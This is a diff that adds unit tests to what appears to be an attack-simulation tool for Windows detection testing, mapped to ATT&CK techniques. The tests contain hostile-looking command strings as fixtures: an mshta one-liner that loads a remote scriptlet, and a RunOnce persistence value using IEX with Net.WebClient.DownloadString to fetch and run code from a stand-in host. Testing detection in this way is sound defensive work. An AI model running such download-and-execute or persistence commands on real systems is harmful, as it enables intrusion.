@@ -78,3 +78,22 @@ describe('fields', () => {
     expect(service?.['LogonId']).toBe('0x3e7');
   });
 });
+
+describe('review fixes', () => {
+  it('a scriptlet loaded by mshta runs its JScript .Run string with escapes undone (T1059.001 #8)', async () => {
+    const { simulateTest } = await import('../../src/lib/evaluate/events.ts');
+    const { PayloadStore } = await import('../../src/lib/evaluate/simulate/payloads.ts');
+    const { mkdtempSync, writeFileSync } = await import('node:fs');
+    const { tmpdir } = await import('node:os');
+    const path = await import('node:path');
+    const dir = mkdtempSync(path.join(tmpdir(), 'atlas-sct-'));
+    writeFileSync(path.join(dir, 'mshta.sct'), '<scriptlet><script language="JScript"><![CDATA[ var r = new ActiveXObject("WScript.Shell").Run("powershell -c \\"write-host \'ok\'\\""); ]]></script></scriptlet>');
+    writeFileSync(path.join(dir, 'index.json'), JSON.stringify({ 'https://h/mshta.sct': { file: 'mshta.sct' } }));
+    const run = simulateTest({ guid: 'g', platforms: ['windows'], executor: 'command_prompt', elevationRequired: false, commandResolved: "mshta.exe javascript:a=GetObject('script:https://h/mshta.sct').Exec();close()" }, PayloadStore.open(dir, undefined));
+    expect(processes(run.events).find((f) => String(f['ParentImage']).endsWith('mshta.exe'))?.['CommandLine']).toBe('powershell -c "write-host \'ok\'"');
+  });
+  it('Invoke-Expression inside a string value is not run now (T1547.001 #3: a RunOnce value)', () => {
+    const events = run('powershell', `set-itemproperty $RunOnceKey "NextRun" 'powershell.exe "IEX (New-Object Net.WebClient).DownloadString(\`"https://h/Discovery.bat\`")"'`);
+    expect(events.some((e) => e.source)).toBe(false);
+  });
+});
